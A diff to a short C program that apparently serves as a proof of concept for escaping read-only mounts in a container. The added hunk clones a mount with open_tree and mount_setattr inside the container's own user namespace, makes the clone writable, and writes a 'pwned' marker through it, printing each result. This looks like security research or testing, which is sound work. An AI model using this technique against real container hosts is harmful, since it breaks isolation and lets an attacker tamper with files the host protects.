@@ -102,5 +102,17 @@ int main(void)
 	printf("open=%s\n", result(w));
 	if (w >= 0)
 		printf("write=%s\n", result(write(w, "pwned\n", 6)));
+	/* A clone of the mount in a namespace of the container's own, where its
+	 * root holds CAP_SYS_ADMIN, made writable. */
+	int c = syscall(SYS_open_tree, fd, "", 1 /* OPEN_TREE_CLONE */ | AT_EMPTY_PATH | O_CLOEXEC);
+	printf("clone=%s\n", result(c));
+	if (c >= 0) {
+		printf("clone-setattr=%s\n", result(syscall(SYS_mount_setattr, c, "", AT_EMPTY_PATH, &a, sizeof a)));
+		snprintf(path, sizeof path, "/proc/self/fd/%d", c);
+		w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
+		printf("clone-open=%s\n", result(w));
+		if (w >= 0)
+			printf("clone-write=%s\n", result(write(w, "pwned\n", 6)));
+	}
 	return 0;
 }
